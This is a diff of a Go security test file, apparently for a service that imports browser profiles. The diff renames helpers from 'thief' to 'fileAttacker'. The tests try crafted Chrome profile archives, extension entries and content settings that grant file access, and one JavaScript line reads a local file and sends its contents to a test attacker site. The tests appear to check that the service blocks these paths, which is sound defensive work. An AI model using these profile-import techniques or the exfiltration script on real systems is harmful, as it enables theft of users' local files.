@@ -27,10 +27,10 @@ import (
 func TestAttackProfiles(t *testing.T) {
 	t.Parallel()
 	d := daemon.Start(t, byOrdinaryUser(t, daemon.Options{Tags: []string{noLandlock, noBlocklist}, Unraced: true}))
-	l := plant(t)
+	l := makeWantedFiles(t)
 	for _, c := range []struct {
 		name string
-		take func(*thief)
+		take func(*fileAttacker)
 	}{
 		{"an extension whose folder has no name", byNamelessFolder},
 		{"an installation that was put off", byDelayedInstall},
@@ -41,7 +41,7 @@ func TestAttackProfiles(t *testing.T) {
 		{"such a file and an extension's content setting", byExtensionsContentSetting},
 	} {
 		t.Run(c.name, func(t *testing.T) {
-			x := newThief(t, d, l)
+			x := newFileAttacker(t, d, l)
 			x.engine = "chrome"
 			c.take(x)
 			x.watch()
@@ -92,12 +92,12 @@ func asJSON(t *testing.T, v any) []byte {
 
 // byNamelessFolder imports an archive whose profile has an extension that was not
 // uploaded. Its folder has an empty name, which is the profile's own Extensions folder.
-func byNamelessFolder(x *thief) {
+func byNamelessFolder(x *fileAttacker) {
 	id, manifest := newExtension(x.t)
 	granted := obj{"api": []string{"tabs"}, "explicit_host": []string{"<all_urls>", "file:///*"}, "manifest_permissions": []string{}, "scriptable_host": []string{}}
 	entry := obj{"path": "", "location": 1, "state": 1, "manifest": manifest, "creation_flags": 5, "newAllowFileAccess": true,
 		"disable_reasons": []int{}, "active_permissions": granted, "granted_permissions": granted, "first_install_time": "13380000000000000"}
-	script := `fetch("` + x.loot[0].url() + `").then(r => r.text()).then(t => fetch("` + x.site.URL + `/?" + encodeURIComponent(t), {mode: "no-cors"}))`
+	script := `fetch("` + x.wanted[0].url() + `").then(r => r.text()).then(t => fetch("` + x.site.URL + `/?" + encodeURIComponent(t), {mode: "no-cors"}))`
 	var archive bytes.Buffer
 	w := tar.NewWriter(&archive)
 	for _, f := range []struct {
@@ -129,9 +129,9 @@ func byNamelessFolder(x *thief) {
 
 // byDelayedInstall imports a profile in which an uploaded extension waits for an update
 // from the folder that has the file.
-func byDelayedInstall(x *thief) {
+func byDelayedInstall(x *fileAttacker) {
 	id, entry := x.uploaded()
-	later := obj{"path": filepath.Dir(x.loot[0].path), "location": 4, "state": 1, "manifest": entry["manifest"], "creation_flags": 5,
+	later := obj{"path": filepath.Dir(x.wanted[0].path), "location": 4, "state": 1, "manifest": entry["manifest"], "creation_flags": 5,
 		"delay_install_reason": 1, "install_time": "13380000000000000"}
 	entry["idle_install_info"] = later
 	a := imports(x.t, x.d, "datadir", zipFiles(x.t, map[string][]byte{
@@ -140,9 +140,9 @@ func byDelayedInstall(x *thief) {
 	page, _ := x.newPage("/")
 	x.step(page, "Page.navigate", obj{"url": "chrome-extension://" + id + "/page.html"})
 	daemon.Eventually(x.t, grace, "the extension's page or the file is shown", func() bool {
-		x.eval(page, `fetch("/`+filepath.Base(x.loot[0].path)+`").then(r => r.text()).then(t => console.log(t), String)`)
-		x.step(page, "Page.navigate", obj{"url": "chrome-extension://" + id + "/" + filepath.Base(x.loot[0].path)})
-		if strings.Contains(x.eval(page, `document.documentElement.innerText`), x.loot[0].text) {
+		x.eval(page, `fetch("/`+filepath.Base(x.wanted[0].path)+`").then(r => r.text()).then(t => console.log(t), String)`)
+		x.step(page, "Page.navigate", obj{"url": "chrome-extension://" + id + "/" + filepath.Base(x.wanted[0].path)})
+		if strings.Contains(x.eval(page, `document.documentElement.innerText`), x.wanted[0].text) {
 			return true
 		}
 		x.step(page, "Page.navigate", obj{"url": "chrome-extension://" + id + "/page.html"})
@@ -152,9 +152,9 @@ func byDelayedInstall(x *thief) {
 
 // byFileHandle imports a profile whose page has stored a handle of the file, with
 // settings that let the page read it.
-func byFileHandle(x *thief) {
+func byFileHandle(x *fileAttacker) {
 	allow := obj{x.site.URL + ",*": obj{"setting": 1}}
-	chosen := obj{"chosen-objects": []obj{{"display-name": "x", "is-directory": false, "path": x.loot[0].path, "path-type": 0, "readable": true, "writable": true}}}
+	chosen := obj{"chosen-objects": []obj{{"display-name": "x", "is-directory": false, "path": x.wanted[0].path, "path-type": 0, "readable": true, "writable": true}}}
 	x.readHandle("", obj{"profile": obj{
 		"default_content_setting_values": obj{"file_system_read_guard": 1, "file_system_write_guard": 1},
 		"content_settings": obj{"exceptions": obj{"file_system_read_guard": allow, "file_system_write_guard": allow,
@@ -163,13 +163,13 @@ func byFileHandle(x *thief) {
 
 // byManagedSetting imports a profile with such a handle, and with a content setting as
 // an administrator's policy sets it.
-func byManagedSetting(x *thief) {
+func byManagedSetting(x *fileAttacker) {
 	x.readHandle("", obj{"profile": obj{"managed_default_content_settings": obj{"file_system_read_guard": 1, "file_system_write_guard": 1}}})
 }
 
 // byExtensionsPreference imports a profile with such a handle, and with an uploaded
 // extension that has set a forbidden preference.
-func byExtensionsPreference(x *thief) {
+func byExtensionsPreference(x *fileAttacker) {
 	id, entry := x.uploaded()
 	entry["preferences"] = obj{"profile.default_content_setting_values.file_system_read_guard": 1}
 	x.readHandle(id, obj{"extensions": obj{"ui": obj{"developer_mode": true}, "settings": obj{id: entry}}})
@@ -177,14 +177,14 @@ func byExtensionsPreference(x *thief) {
 
 // byExtensionsContentSetting imports a profile with such a handle, and with an uploaded
 // extension that has set a forbidden content setting.
-func byExtensionsContentSetting(x *thief) {
+func byExtensionsContentSetting(x *fileAttacker) {
 	id, entry := x.uploaded()
 	entry["content_settings"] = []obj{{"primaryPattern": "*", "secondaryPattern": "*", "type": "file-system-read-guard", "setting": "allow"}}
 	x.readHandle(id, obj{"extensions": obj{"ui": obj{"developer_mode": true}, "settings": obj{id: entry}}})
 }
 
 // uploaded uploads an extension and returns its entry in a profile's preferences.
-func (x *thief) uploaded() (id string, entry obj) {
+func (x *fileAttacker) uploaded() (id string, entry obj) {
 	x.t.Helper()
 	id, manifest := newExtension(x.t)
 	packed := zipFiles(x.t, map[string][]byte{"manifest.json": asJSON(x.t, manifest), "page.html": []byte(`<title>own</title>`)})
@@ -195,7 +195,7 @@ func (x *thief) uploaded() (id string, entry obj) {
 
 // readHandle imports a profile whose page has stored a handle of the file, with changed
 // preferences, and reads the file.
-func (x *thief) readHandle(extension string, change obj) {
+func (x *fileAttacker) readHandle(extension string, change obj) {
 	dir := profileOf(x.t, func(w *wire, page string) {
 		w.open(page, x.site.URL+"/")
 		w.eval(page, `document.ondragover = e => e.preventDefault();
@@ -205,15 +205,15 @@ func (x *thief) readHandle(extension string, change obj) {
 				await new Promise(ok => { const t = d.transaction("s", "readwrite"); t.objectStore("s").put(h, "h"); t.oncomplete = ok }); return h.name })() }; 1`)
 		for _, kind := range []string{"dragEnter", "dragOver", "drop"} {
 			w.call(page, "Input.dispatchDragEvent", obj{"type": kind, "x": 50, "y": 50,
-				"data": obj{"items": []obj{}, "files": []string{x.loot[0].path}, "dragOperationsMask": 1}}, nil)
+				"data": obj{"items": []obj{}, "files": []string{x.wanted[0].path}, "dragOperationsMask": 1}}, nil)
 		}
-		daemon.Eventually(x.t, grace, "the page has stored the handle", func() bool { return w.eval(page, `window.kept`) == filepath.Base(x.loot[0].path) })
+		daemon.Eventually(x.t, grace, "the page has stored the handle", func() bool { return w.eval(page, `window.kept`) == filepath.Base(x.wanted[0].path) })
 	})
 	page := x.enterWith(dir, extension, change)
 	if got := x.eval(page, `(async () => {
 		const d = await new Promise((ok, no) => { const r = indexedDB.open("d", 1); r.onsuccess = () => ok(r.result); r.onerror = () => no(r.error) });
 		window.handle = await new Promise((ok, no) => { const r = d.transaction("s").objectStore("s").get("h"); r.onsuccess = () => ok(r.result); r.onerror = () => no(r.error) });
-		return handle.name })()`); got != filepath.Base(x.loot[0].path) {
+		return handle.name })()`); got != filepath.Base(x.wanted[0].path) {
 		x.t.Errorf("the handle was not restored: %s", got)
 	}
 	x.eval(page, `handle.getFile().then(f => f.text()).then(t => console.log(t), String)`)
@@ -221,8 +221,8 @@ func (x *thief) readHandle(extension string, change obj) {
 }
 
 // enterWith imports a profile with changed preferences and creates a session from it,
-// with an extension or ("") none. It returns a page of the thief's site.
-func (x *thief) enterWith(dir, extension string, change obj) (page string) {
+// with an extension or ("") none. It returns a page of the attacker's site.
+func (x *fileAttacker) enterWith(dir, extension string, change obj) (page string) {
 	x.t.Helper()
 	file := filepath.Join(dir, "Default", "Preferences")
 	raw, err := os.ReadFile(file)
